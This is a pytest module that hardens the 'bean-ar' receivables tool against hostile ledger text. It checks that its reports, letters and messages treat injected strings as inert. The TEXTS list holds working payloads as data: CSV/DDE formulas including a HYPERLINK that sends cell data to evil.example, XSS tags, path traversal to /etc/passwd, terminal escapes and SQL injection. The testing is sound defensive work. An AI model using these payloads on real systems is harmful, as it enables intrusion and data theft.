"""Hostile text: whatever a ledger's names, numbers and files hold, every face shows it as text and nothing acts."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import unicodedata
import zipfile
from collections.abc import Mapping
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from pypdf import PdfReader

from bean_ar.main import main

TEXTS: Mapping[str, str] = {
    "formula": "=cmd|' /C calc'!A0",
    "plus": "+1",
    "minus": "-1",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "dde": '=HYPERLINK("http://evil.example?"&A1,"click")',
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "entity": "&lt;b&gt; &amp; &#x41; &copy",
    "markup": "]]> <!-- --> <![CDATA[ <?php ?>",
    "typst call": '#sys.exit() #panic("x") #read("/etc/passwd") #import "x.typ"',
    "typst marks": "$x^2$ *bold* _it_ `raw` @ref <label> ~ ... -- ---",
    "typst lines": "= Heading\n- item\n+ item\n/ term: x\n#line",
    "comment": "// rest /* block */ http://evil.example",
    "backslash": "\\ \\u{41} \\n C:\\temp\\new",
    "override": "invoice\u202egnp.exe \u2066x\u2069",
    "zero width": "ab\u200bcd\u2060ef\ufeffgh\u00adij",
    "terminal": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x9b31m\x08\x7f",
    "nul": "a\x00b %00 \\0",
    "noncharacter": "a\uffff\ufffeb",
    "separators": "a\u2028b\u2029c\x0bd\x0ce\x85f",
    "up": "../../../etc/passwd",
    "windows": "..\\..\\windows\\system32",
    "root": "/etc/cron.d/evil",
    "dots": "..",
    "device": "CON",
    "hidden": ".ssh",
    "option": "--force",
    "long": "Long name " + "x" * 5_000,
    "emoji": "🛗👩\u200d👩\u200d👧 🇻🇳 e\u0301",
    "chinese": "电梯有限公司（北宁）",
    "arabic": "شركة المصاعد 123 ذ.م.م",
    "csv": 'a,"b";c\r\nd\te',
    "json": '\\u0041 "}], {"x": [',
    "template": "{{7*7}} {% x %} ${7*7} %s %(x)s {0}",
    "sql": "'; DROP TABLE open_items; --",
    "excel": "_x000D_ _x0041_",
    "spaces": "  two  spaces  ",
}
"""What a hostile or merely careless person may write, by what it attacks."""

LANGUAGES = ("en", "vi", "ar", "zh")
LETTERS = ("pdf", "html", "xlsx")
FACES = ("table", "csv", "json", "xlsx", "html")
FOLDER = "=cmd <script>alert(1) 'x' $HOME\x1b[31m"
INCLUDED = "-rf <img onerror=x> \x1b[31m\u202e.beancount"


class World(NamedTuple):
    """A hostile ledger in a folder of its own, and another folder for what is made of it."""

    ledger: Path
    out: Path


def quoted(text: str) -> str:
    """A text as Beancount writes it."""
    escaped = text.replace("\\", "\\\\").replace('"', '\\"')
    return f'"{escaped}"'


def hostile_ledger(folder: Path) -> Path:
    """A ledger in which every text of `TEXTS` is a customer with an invoice, everything about it that text."""
    folder.mkdir(parents=True)
    lines = [
        f'option "title" {quoted(TEXTS["script"])}',
        '2025-01-01 custom "receivables-policy" "statement"',
        f"  company: {quoted(TEXTS['typst call'])}",
        f"  address: {quoted(TEXTS['image'])}",
        f"  contact: {quoted(TEXTS['markup'])}",
        f"  note: {quoted(TEXTS['typst marks'])}",
        f"  pay-to: {quoted(TEXTS['dde'])}",
        f"  website: {quoted('javascript:alert(1)')}",
        "2025-01-01 open Income:Sales",
        f"include {quoted(INCLUDED)}",
    ]
    (folder / "main.beancount").write_text("\n".join(lines) + "\n", "utf-8")
    entries = []
    for number, text in enumerate(TEXTS.values()):
        account, word = f"Assets:Receivable:X{number}", quoted(text)
        entries.append(
            f"2025-01-01 open {account}\n"
            + "".join(
                f"  {key}: {word}\n"
                for key in (
                    "customer", "name", "address", "email", "tax-id", "contact", "collector", "terms-note", "segment",
                )
            )
            + f"2026-01-05 * {word} {word}\n  number: {word}\n  {account}  {number + 1},234.50 USD\n  Income:Sales\n"
        )  # fmt: skip
    (folder / INCLUDED).write_text("".join(entries), "utf-8", newline="")
    return folder / "main.beancount"


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> World:
    root = tmp_path_factory.mktemp("hostile")
    (root / "out").mkdir()
    return World(hostile_ledger(root / FOLDER), root / "out")


def call(*words: str | Path, width: int = 200) -> bytes:
    """What the command writes to standard output; nothing was wrong."""
    result = CliRunner().invoke(
        main, [*map(str, words), "--no-cache"] if words[0] != "query" else [*map(str, words)],
        prog_name="bean-ar", env={"COLUMNS": str(width)},
    )  # fmt: skip
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    assert result.exit_code == 0, result.stderr
    assert_harmless(result.stderr)
    return result.stdout_bytes


def process(*words: str | Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-c", "from bean_ar.main import run; run()", *map(str, words)],
        capture_output=True, text=True, encoding="utf-8", timeout=60, check=False,
    )  # fmt: skip


def assert_harmless(shown: str) -> None:
    """Nothing in what a terminal is given can act on it or reorder it."""
    acting = {
        character
        for character in shown
        if unicodedata.category(character) in ("Cc", "Cf", "Cs", "Zl", "Zp") and character not in "\n\u200c\u200d\u200e"
    }
    assert not acting, sorted(map(ascii, acting))


def seen(text: str) -> str:
    """The text with what no text has as visible escapes: what a file of a face holds."""
    return re.sub(
        "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff]",
        lambda found: found[0].encode("unicode_escape").decode(),
        text,
    )


def unguarded(cell: str) -> str:
    """A cell of a CSV without the mark that keeps a spreadsheet from taking it for a formula."""
    return re.sub(r"^'(?='*[=+\-@\t\r\n])", "", cell)


def one_line(text: str) -> str:
    """A text without spaces and without what only the layout of a letter adds or takes away."""
    return re.sub(r"[\s\u200b\u2060\u00ad\u2066-\u2069]", "", text)


# -- the ledger is what the tests think it is -------------------------------------------------------


def test_the_book_has_every_text_exactly(world: World) -> None:
    rows = json.loads(call("open-items", world.ledger, "--format", "json"))["rows"]
    for column in ("customer", "name", "collector"):
        assert {row[column] for row in rows} == set(TEXTS.values()), column
    assert {row["number"] for row in rows} == {text.strip() for text in TEXTS.values()}
    assert {row["file"] for row in rows} == {INCLUDED}
    rows = json.loads(call("statement", world.ledger, "--format", "json"))["rows"]
    assert {row["description"] for row in rows} == {*TEXTS.values(), "Opening balance"}
    rows = json.loads(call("aging", world.ledger, "--by", "segment", "--format", "json"))["rows"]
    assert {row["segment"] for row in rows} == set(TEXTS.values())


# -- faces -----------------------------------------------------------------------------------------

REPORTS = ("customers", "documents", "open-items", "aging", "statement")


@pytest.mark.parametrize("report", REPORTS)
@pytest.mark.parametrize("width", [60, 120, 400])
def test_nothing_acts_on_the_terminal(report: str, width: int, world: World) -> None:
    assert_harmless(call(report, world.ledger, width=width).decode())


def test_the_terminal_shows_every_text(world: World) -> None:
    shown = call("aging", world.ledger, width=12_000).decode()
    plain = shown.replace("\u200e", "")
    for text in TEXTS.values():
        visible = "".join(
            character.encode("unicode_escape").decode()
            if unicodedata.category(character) in ("Cc", "Cf", "Cs", "Zl", "Zp") and character not in "\u200c\u200d"
            else character
            for character in text
        )
        assert visible.strip() in plain


@pytest.mark.parametrize("report", REPORTS)
def test_no_cell_of_a_csv_is_a_formula(report: str, world: World) -> None:
    content = call(report, world.ledger, "--format", "csv").decode()
    header, *rows = list(csv.reader(io.StringIO(content, newline="")))
    assert len(rows) >= len(TEXTS)
    for row in rows:
        assert len(row) == len(header)
        for cell in row:
            assert not re.match(r"[=+@\t\r\n]", cell), cell
            assert not cell.startswith("-") or re.fullmatch(r"-[\d.]+", cell), cell
    texts = {cell for row in rows for cell in row}
    for text in TEXTS.values():
        assert seen(text) in set(map(unguarded, texts))


@pytest.mark.parametrize("report", REPORTS[:-1])
def test_no_cell_of_a_workbook_is_a_formula_of_the_ledger(report: str, world: World) -> None:
    content = call(report, world.ledger, "--format", "xlsx")
    texts, formulas = read_workbook(content)
    assert all(re.fullmatch(r"=(SUM|SUBTOTAL|SUMIFS?)\([A-Z0-9:$,\"\w ]*\)", formula) for formula in formulas), formulas
    for text in TEXTS.values():
        assert seen(text).replace("\r\n", "\n").replace("\r", "\n") in texts
    assert_no_links(content)


def read_workbook(content: bytes) -> tuple[set[str], set[str]]:
    """The texts and the formulas of all cells; carriage returns read as line feeds, as spreadsheets show them."""
    texts, formulas = set(), set()
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet:
            for cell in row:
                if cell.data_type == "f":
                    formulas.add(str(cell.value))
                elif isinstance(cell.value, str):
                    texts.add(cell.value.replace("\r\n", "\n").replace("\r", "\n"))
    return texts, formulas


def assert_no_links(content: bytes) -> None:
    """Nothing in a workbook leads out of it: no link, no external data, no macro."""
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        for name in parts.namelist():
            assert not re.search(r"external|vba|oleObject|connections", name, re.IGNORECASE), name
            if name.endswith(".rels"):
                assert b'TargetMode="External"' not in parts.read(name)


class Page(HTMLParser):
    """A page as a browser takes it: its tags, attributes and texts."""

    def __init__(self, content: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []
        self.texts: list[str] = []
        self._open: list[str] = []
        self.feed(content)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.extend(attrs)
        self._open.append(tag)

    def handle_data(self, data: str) -> None:
        if self._open[-1:] != ["style"]:
            self.texts.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag in self._open:
            while self._open.pop() != tag:
                pass

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(data)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)


def assert_static(content: bytes) -> Page:
    """A page that runs nothing, loads nothing and leads nowhere."""
    page = Page(content.decode("utf-8"))
    assert not page.tags & {"script", "img", "iframe", "object", "embed", "link", "a", "form", "base", "svg", "audio"}
    for name, value in page.attributes:
        assert not name.startswith("on"), (name, value)
        assert name not in ("src", "href", "srcset", "action", "formaction", "style") or str(value).startswith("data:")
    return page


@pytest.mark.parametrize("report", REPORTS[:-1])
def test_a_page_shows_texts_and_runs_nothing(report: str, world: World) -> None:
    page = assert_static(call(report, world.ledger, "--format", "html"))
    whole = [re.sub(r"\r\n?", "\n", text) for text in page.texts]
    for text in TEXTS.values():
        assert re.sub(r"\r\n?", "\n", seen(text)) in whole


def test_a_file_is_where_it_was_asked_for(world: World) -> None:
    for format_ in FACES:
        output = world.out / f"{FOLDER.replace('/', '-')}.{format_}"
        call("open-items", world.ledger, "--format", format_, "--output", output)
        assert output.stat().st_size > 0


# -- letters ---------------------------------------------------------------------------------------


class Letters(NamedTuple):
    """One bulk run: its folder and the rows of its manifest in the order of the texts."""

    folder: Path
    rows: list[dict[str, str]]

    def of(self, text: str) -> bytes:
        """The letter to the customer whose code is a text."""
        (name,) = [unguarded(row["file"]) for row in self.rows if unguarded(row["customer"]) == seen(text)]
        return (self.folder / name).read_bytes()


@pytest.fixture(scope="module", params=LETTERS)
def format_(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture(scope="module", params=LANGUAGES)
def letters(request: pytest.FixtureRequest, format_: str, world: World) -> Letters:
    """Every customer's letter in one language and format."""
    folder = world.out / f"letters-{format_}-{request.param}"
    words = ("--into", folder, "--format", format_, "--language", request.param, "--workers", "1")
    call("statements", world.ledger, *words)
    with (folder / "manifest.csv").open(encoding="utf-8", newline="") as manifest:
        return Letters(folder, list(csv.DictReader(manifest)))


def test_letters_are_in_their_folder_under_names_that_every_system_takes(letters: Letters, format_: str) -> None:
    names = sorted(path.name for path in letters.folder.iterdir())
    assert names == sorted([*(unguarded(row["file"]) for row in letters.rows), "manifest.csv"])
    assert len(letters.rows) == len(TEXTS)
    for name in names:
        assert re.fullmatch(r"[\w\-.\u0300-\u036f]+", name), ascii(name)
        assert not name.startswith((".", "-")) or name.startswith("-2026"), name
        assert len(os.fsencode(name)) <= 160
        assert not re.match(r"(con|prn|aux|nul)[.-]?$", name.partition(".")[0], re.IGNORECASE)
        assert (letters.folder / name).is_file()
    assert len({name.casefold() for name in names}) == len(names)


def test_the_manifest_is_text(letters: Letters) -> None:
    for row in letters.rows:
        for cell in row.values():
            assert not re.match(r"[=+\-@\t\r\n]", cell), cell
    for column in ("customer", "name", "email"):
        assert {unguarded(row[column]) for row in letters.rows} == {seen(text) for text in TEXTS.values()}


def test_a_letter_says_what_the_ledger_says_and_nothing_acts(letters: Letters, format_: str) -> None:
    company = [TEXTS[key] for key in ("typst call", "image", "markup", "dde")]
    # Reading a PDF takes longer than making it, so in the other languages some stand for all.
    every = 1 if format_ != "pdf" or letters.folder.name.endswith("-en") else 4
    for name, text in list(TEXTS.items())[::every]:
        said = SAID[format_](letters.of(text))
        if format_ == "pdf" and name == "long":
            # Thirteen pages of one word take a reader of PDF too long; the other formats are read whole.
            assert in_letter(text[:60]) in said
            continue
        # What a reader of PDF gives back of Arabic is in the order of the shapes; no font of ours has emoji.
        readable = format_ != "pdf" or name not in ("arabic", "emoji")
        for expected in (*company, *([text] if readable else [])):
            assert in_letter(expected) in said, (name, expected[:50])


def test_a_character_that_no_font_has_is_a_warning(world: World) -> None:
    result = CliRunner().invoke(
        main, ["statement", str(world.ledger), "--customer", TEXTS["emoji"], "--format", "pdf", "--no-cache"]
    )
    assert result.exit_code == 0
    assert "no installed font has" in result.stderr
    assert "U+1F6D7" in result.stderr


def in_letter(text: str) -> str:
    """What a letter shows of a text: no control characters, no direction overrides, spaces as they fall."""
    # A bar between spaces is a new line in the ledger's addresses, see `receivables.settings.lines`.
    text = text.replace(" / ", "\n")
    text = re.sub("[\x00-\x08\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ufeff\ufffe\uffff]", "", text)
    return one_line(re.sub("[\x0b\x0c\u2028\u2029]", " ", text))


def pdf_text(content: bytes) -> str:
    """The text of a letter's first page; nothing in the letter opens, runs or leads anywhere."""
    reader = PdfReader(io.BytesIO(content))
    catalogue: Any = reader.trailer["/Root"]
    assert not {"/OpenAction", "/AA", "/Names", "/AcroForm"} & set(catalogue)
    assert all("/Annots" not in page and "/AA" not in page for page in reader.pages)
    assert not re.search(rb"/(JavaScript|JS|Launch|URI|SubmitForm|EmbeddedFile)\b", content)
    return one_line("".join(page.extract_text() for page in reader.pages[:1]))


def html_text(content: bytes) -> str:
    """All text of a letter; nothing in it runs, loads or leads anywhere."""
    return one_line("".join(assert_static(content).texts))


def xlsx_text(content: bytes) -> str:
    """All text of a letter; its only formulas are sums of its own cells."""
    assert_no_links(content)
    texts, formulas = read_workbook(content)
    assert all(re.fullmatch(r"=[A-Z0-9+\-*(): ,$SUM]+", formula) for formula in formulas), formulas
    return one_line("".join(sorted(texts)))


SAID = {"pdf": pdf_text, "html": html_text, "xlsx": xlsx_text}


# -- messages and queries --------------------------------------------------------------------------


@pytest.fixture
def faulty(tmp_path: Path) -> Path:
    """A hostile ledger whose every text also causes an error."""
    ledger = hostile_ledger(tmp_path / FOLDER.replace("x", "y"))
    with ledger.open("a", encoding="utf-8", newline="") as stream:
        for number, text in enumerate(TEXTS.values()):
            word = quoted(text)
            stream.write(
                f"2026-02-01 * {word} {word}\n  due: {word}\n  Assets:Receivable:X{number}  -1 USD\n"
                f"    settles: {quoted(text + 'x')}\n  Income:Sales\n"
                f'2026-02-01 custom "receivables-policy" {word}\n'
                f'2026-02-01 custom {word} {word}\n'
                f'2026-02-01 note Assets:Receivable:X{number} {word} #promise\n  amount: {word}\n'
            )  # fmt: skip
    return ledger


def test_messages_do_not_act_on_the_terminal(faulty: Path) -> None:
    for words in (["aging", "--all-problems"], ["aging", "--customer", "Long"], ["open-items", "--where", "x=\x1b[2J"]):
        done = process(words[0], faulty, *words[1:])
        assert done.returncode in (1, 2)
        assert "Traceback" not in done.stderr
        assert_harmless(done.stderr)
        assert len(done.stderr) > 100


def test_messages_about_files_do_not_act_on_the_terminal(tmp_path: Path) -> None:
    ledger = tmp_path / "\x1b[31m\u202e.beancount"
    ledger.write_text('include "\x1b[2J*"\ninclude "\u202e"\nrubbish\n', "utf-8")
    done = process("aging", ledger)
    assert done.returncode == 1
    assert_harmless(done.stderr)
    ledger = hostile_ledger(tmp_path / FOLDER)
    for output in (tmp_path / "\x1b[2J" / "x.csv", tmp_path / "x.\x1b[2J"):
        done = process("aging", ledger, "--output", output)
        assert done.returncode in (1, 2)
        assert_harmless(done.stderr)


def test_queries_show_texts_as_any_report_does(world: World) -> None:
    folder = world.ledger.parent / "queries"
    folder.mkdir(exist_ok=True)
    name = "\x1b[31m<b>=1\u202e"
    (folder / f"{name}.bql").write_text(
        f"-- {TEXTS['script']} {TEXTS['terminal']}\nSELECT customer, name, number FROM #open_items\n", "utf-8"
    )
    assert_harmless(call("query", world.ledger).decode())
    assert_harmless(call("query", world.ledger, name).decode())
    rows = json.loads(call("query", world.ledger, name, "--format", "json"))["rows"]
    assert {row["customer"] for row in rows} == set(TEXTS.values())
    assert_static(call("query", world.ledger, name, "--format", "html"))
    _, formulas = read_workbook(call("query", world.ledger, name, "--format", "xlsx"))
    assert not formulas
    for row in csv.reader(io.StringIO(call("query", world.ledger, name, "--format", "csv").decode(), newline="")):
        assert not any(re.match(r"[=+\-@\t\r\n]", cell) for cell in row)
    done = process("query", world.ledger, "\x1b[31m")
    assert done.returncode == 2
    assert_harmless(done.stderr)


def test_nothing_was_written_anywhere_else(world: World) -> None:
    """What the tests of this module made lies in the folder that they asked for."""
    assert not Path(TEXTS["root"]).exists()
    assert {path.name for path in world.out.parent.iterdir()} == {"out", FOLDER}
    inside = {path.name for path in world.ledger.parent.iterdir()} - {"queries"}
    assert inside == {"main.beancount", INCLUDED}
